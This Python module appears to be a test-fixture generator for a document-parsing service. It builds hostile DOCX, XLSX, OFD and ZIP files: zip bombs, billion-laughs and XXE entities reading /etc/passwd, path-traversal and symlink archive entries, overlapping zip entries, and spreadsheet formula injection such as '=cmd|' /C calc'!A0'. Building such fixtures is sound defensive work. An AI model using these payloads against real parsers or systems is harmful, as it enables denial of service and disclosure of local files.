"""Hostile packages: DOCX, XLSX, PPTX, OFD, ZIP. Harmless outside a reader: they only cost, point outside, or nest."""

from __future__ import annotations

import io
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docx
import openpyxl

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OFD = "http://www.ofdspec.org/2016"
_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a '哈哈哈哈哈哈哈哈哈哈'>"
    + "".join(f"<!ENTITY {new} '{f'&{old};' * 10}'>" for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
OUTSIDE = "<!DOCTYPE x [<!ENTITY i SYSTEM 'file:///etc/passwd'>]>"
_MB = 1024 * 1024


def zeros(megabytes: int) -> Iterator[bytes]:
    """Spaces rather than zeros: valid inside XML."""
    for _ in range(megabytes):
        yield b" " * _MB


def _plain_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("全区幼儿园86所。演示数据（虚构）。")
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def _plain_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "全区幼儿园86所"
    target = io.BytesIO()
    workbook.save(target)
    return target.getvalue()


def changed(source: bytes, path: Path, parts: dict[str, bytes | str], *, links: str = "", types: str = "") -> None:
    """A copy of a package with parts added or replaced. links : more relations of its main part. types : more content types."""
    left = dict(parts)
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content: bytes | str = left.pop(name, old.read(name))
            if links and name in ("word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"):
                content = old.read(name).replace(b"</Relationships>", links.encode() + b"</Relationships>")
            if types and name == "[Content_Types].xml":
                content = old.read(name).replace(b"</Types>", types.encode() + b"</Types>")
            new.writestr(name, content)
        for name, content in left.items():
            new.writestr(name, content)


def _body(xml: str) -> str:
    return f'<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{xml}</w:body></w:document>'


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx_bomb(path: Path) -> None:
    """A body that unpacks to 400 MB."""
    source = _plain_docx()
    with (
        zipfile.ZipFile(io.BytesIO(source)) as old,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for name in old.namelist():
            if name != "word/document.xml":
                new.writestr(name, old.read(name))
                continue
            with new.open(name, "w") as part:
                part.write(f'{_HEAD}<w:document xmlns:w="{_W}"><w:body>'.encode())
                for piece in zeros(400):
                    part.write(piece)
                part.write(b"</w:body></w:document>")


def docx_bomb_that_lies(path: Path) -> None:
    """The same within the limits of the directory: it claims 1 KB for a part of 60 MB."""
    changed(_plain_docx(), path, {"word/document.xml": _body(_paragraph("x") + " " * (60 * _MB))})
    content = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as package:
        info = package.getinfo("word/document.xml")
    size = info.file_size.to_bytes(4, "little")
    start = 0
    while (start := content.find(size, start)) >= 0:  # in the directory and in the part's own head
        content[start : start + 4] = (1024).to_bytes(4, "little")
        start += 4
    path.write_bytes(bytes(content))


def docx_laughs(path: Path) -> None:
    """Billion laughs in the body."""
    changed(_plain_docx(), path, {"word/document.xml": _HEAD + LAUGHS + _body(_paragraph("&i;"))})


def docx_outside_entity(path: Path) -> None:
    """An entity that names a file of the reading machine (XXE)."""
    changed(_plain_docx(), path, {"word/document.xml": _HEAD + OUTSIDE + _body(_paragraph("前&i;后"))})


def docx_deep(path: Path) -> None:
    """Tables inside tables, 3,000 deep."""
    deep = 3000
    opening, closing = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    changed(_plain_docx(), path, {"word/document.xml": _body(opening * deep + _paragraph("底") + closing * deep)})


def docx_wide_merge(path: Path) -> None:
    """A cell that says it is two billion columns wide, in a table of many rows."""
    row = f'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{_paragraph("宽")}</w:tc></w:tr>'
    changed(
        _plain_docx(),
        path,
        {"word/document.xml": _body(f"<w:tbl>{row * 500}</w:tbl>" + _paragraph("全区幼儿园86所。"))},
    )


def docx_links_outside(path: Path) -> None:
    """A template, a picture and a frame from elsewhere, a document inserted, an embedded program, a macro."""
    link = f'<Relationship Id="rId9{{}}" Type="{_R}/{{}}" Target="{{}}"{{}}/>'
    outside = ' TargetMode="External"'
    links = (
        link.format(1, "attachedTemplate", "https://example.invalid/a.dotm", outside)
        + link.format(2, "image", "file:///etc/passwd", outside)
        + link.format(3, "oleObject", "embeddings/oleObject1.bin", "")
        + link.format(4, "aFChunk", "chunk.htm", "")
        + link.format(5, "vbaProject", "vbaProject.bin", "")
        + link.format(6, "image", "../../../../etc/passwd", "")
    )
    types = '<Default Extension="bin" ContentType="application/octet-stream"/><Default Extension="htm" ContentType="text/html"/>'
    drawn = '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rId92"/></w:pict></w:r></w:p>'
    parts: dict[str, bytes | str] = {
        "word/document.xml": _body(_paragraph("全区幼儿园86所。") + drawn + '<w:altChunk r:id="rId94"/>'),
        "word/embeddings/oleObject1.bin": b"MZ not a program",
        "word/chunk.htm": "<html><script>1</script></html>",
        "word/vbaProject.bin": b"not a macro",
        "etc/passwd": b"x",
    }
    changed(
        _plain_docx(),
        path,
        parts,
        links=links.replace(link.format(6, "image", "../../../../etc/passwd", ""), ""),
        types=types,
    )


def docx_relations_outside_package(path: Path) -> None:
    """A relation whose target climbs out of the package."""
    link = f'<Relationship Id="rId96" Type="{_R}/footnotes" Target="../../../../../etc/passwd"/>'
    changed(_plain_docx(), path, {}, links=link)


def xlsx_laughs(path: Path) -> None:
    """Billion laughs in the shared strings."""
    strings = f'{_HEAD}{LAUGHS}<sst xmlns="{_S}"><si><t>&i;</t></si></sst>'
    changed(_plain_xlsx(), path, {"xl/sharedStrings.xml": strings})


def xlsx_outside_entity(path: Path) -> None:
    """An entity naming a file, in a sheet."""
    sheet = f'{_HEAD}{OUTSIDE}<worksheet xmlns="{_S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&i;</t></is></c></row></sheetData></worksheet>'
    changed(_plain_xlsx(), path, {"xl/worksheets/sheet1.xml": sheet})


def xlsx_rows(path: Path, rows: int = 50_000) -> None:
    """50,000 rows of five columns."""
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("名册")
    sheet.append(("序号", "园名", "镇街", "在园幼儿数", "普惠"))
    for number in range(rows):
        sheet.append((number + 1, f"第{number + 1}幼儿园", "北河镇", 100 + number % 300, "是"))
    workbook.save(path)


def xlsx_far_cell(path: Path) -> None:
    """Two cells at the two ends of the sheet, and one merged range over all of it."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet["A1"] = "全区幼儿园86所"
    sheet["XFD1048576"] = "远处"
    workbook.save(path)
    with zipfile.ZipFile(path) as package:
        part = package.read("xl/worksheets/sheet1.xml").decode()
    merged = part.replace(
        "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A2:XFD1048575"/></mergeCells>'
    )
    changed(path.read_bytes(), path, {"xl/worksheets/sheet1.xml": merged})


def xlsx_commands(path: Path) -> None:
    """Formulas that start programs or fetch pages in a careless spreadsheet program."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet["A1"] = "在园幼儿数"
    sheet["B1"] = "=cmd|' /C calc'!A0"
    sheet["B2"] = '=WEBSERVICE("https://example.invalid/")'
    sheet["A3"] = 21000
    workbook.save(path)


def zip_in_zip(path: Path, depth: int = 40) -> None:
    """An archive in an archive, forty times."""
    content = b"\xe6\x9c\x80\xe5\xba\x95\xe5\xb1\x82"
    name = "底.txt"
    for level in range(depth):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
            package.writestr(name, content)
        content, name = target.getvalue(), f"{level}.zip"
    path.write_bytes(content)


def zip_bomb(path: Path) -> None:
    """A text of 900 MB in less than one."""
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package,
        package.open("大.txt", "w") as part,
    ):
        for piece in zeros(900):
            part.write(piece)


def zip_many(path: Path) -> None:
    """50,000 empty files."""
    with zipfile.ZipFile(path, "w") as package:
        for number in range(50_000):
            package.writestr(f"{number}.txt", "")


def zip_overlapping(path: Path) -> None:
    """2,000 names for the same 4 MB of compressed data."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("000000.txt", b"a" * (4 * _MB))
    content = target.getvalue()
    start = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    entry = content[start:end]
    count = 2000
    entries = b"".join(entry.replace(b"000000.txt", f"{number:06}.txt".encode()) for number in range(count))
    tail = bytearray(content[end:])
    tail[8:10] = tail[10:12] = count.to_bytes(2, "little")
    tail[12:16] = len(entries).to_bytes(4, "little")
    path.write_bytes(content[:start] + entries + bytes(tail))


TRICKS = (
    "../../逃逸.txt",
    "/tmp/逃逸-绝对路径.txt",
    "C:\\逃逸.txt",
    "..\\..\\逃逸.txt",
    "a/../../../逃逸.txt",
    "CON.txt",
    "名字里有\n换行.txt",
    "very-long-" + "x" * 400 + ".txt",
    "./././点.txt",
    "同名.txt",
    "同名.txt",
)


def zip_paths(path: Path) -> None:
    """Names that climb out, that are absolute, that Windows reserves; a link to a file of the machine."""
    with zipfile.ZipFile(path, "w") as package:
        for name in TRICKS:
            info = zipfile.ZipInfo("x")
            info.filename = name
            package.writestr(info, "全区幼儿园86所。")
        link = zipfile.ZipInfo("链接.txt")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        package.writestr(link, "/etc/passwd")


def zip_encrypted(path: Path) -> None:
    """The flag says that a password is needed."""
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("说明.txt", "全区幼儿园86所。")
    content = bytearray(path.read_bytes())
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(bytes(content))


def ofd_laughs(path: Path) -> None:
    """Billion laughs in the main part of an OFD."""
    with zipfile.ZipFile(path, "w") as package:
        package.writestr(
            "OFD.xml", f'{_HEAD}{LAUGHS}<ofd:OFD xmlns:ofd="{_OFD}"><ofd:DocBody>&i;</ofd:DocBody></ofd:OFD>'
        )


def ofd_outside(path: Path) -> None:
    """An OFD whose document is said to be a file of the machine."""
    with zipfile.ZipFile(path, "w") as package:
        package.writestr(
            "OFD.xml",
            f'{_HEAD}<ofd:OFD xmlns:ofd="{_OFD}"><ofd:DocBody><ofd:DocRoot>../../../../etc/passwd</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
        )


def ofd_page_of_itself(path: Path) -> None:
    """A page whose template is the page itself."""
    space = f'xmlns:ofd="{_OFD}"'
    with zipfile.ZipFile(path, "w") as package:
        package.writestr(
            "OFD.xml",
            f"{_HEAD}<ofd:OFD {space}><ofd:DocBody><ofd:DocRoot>D/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
        )
        package.writestr(
            "D/Document.xml",
            f"{_HEAD}<ofd:Document {space}><ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea>"
            '<ofd:TemplatePage ID="9" BaseLoc="P.xml"/></ofd:CommonData><ofd:Pages><ofd:Page ID="1" BaseLoc="P.xml"/></ofd:Pages></ofd:Document>',
        )
        package.writestr(
            "D/P.xml",
            f'{_HEAD}<ofd:Page {space}><ofd:Template TemplateID="9"/><ofd:Content><ofd:Layer ID="2"><ofd:TextObject ID="4" '
            'Boundary="20 30 170 6" Size="4"><ofd:TextCode X="0" Y="4">全区幼儿园86所</ofd:TextCode></ofd:TextObject></ofd:Layer></ofd:Content></ofd:Page>',
        )


CASES: dict[str, Any] = {
    "压缩炸弹.docx": docx_bomb,
    "谎报大小.docx": docx_bomb_that_lies,
    "十亿笑.docx": docx_laughs,
    "外部实体.docx": docx_outside_entity,
    "深层嵌套.docx": docx_deep,
    "极宽单元格.docx": docx_wide_merge,
    "外部引用与内嵌.docx": docx_links_outside,
    "关系指向包外.docx": docx_relations_outside_package,
    "十亿笑.xlsx": xlsx_laughs,
    "外部实体.xlsx": xlsx_outside_entity,
    "五万行.xlsx": xlsx_rows,
    "天涯海角.xlsx": xlsx_far_cell,
    "命令公式.xlsx": xlsx_commands,
    "层层压缩.zip": zip_in_zip,
    "压缩炸弹.zip": zip_bomb,
    "五万文件.zip": zip_many,
    "重叠条目.zip": zip_overlapping,
    "路径花招.zip": zip_paths,
    "加密.zip": zip_encrypted,
    "十亿笑.ofd": ofd_laughs,
    "路径花招.ofd": ofd_outside,
    "自我引用.ofd": ofd_page_of_itself,
}
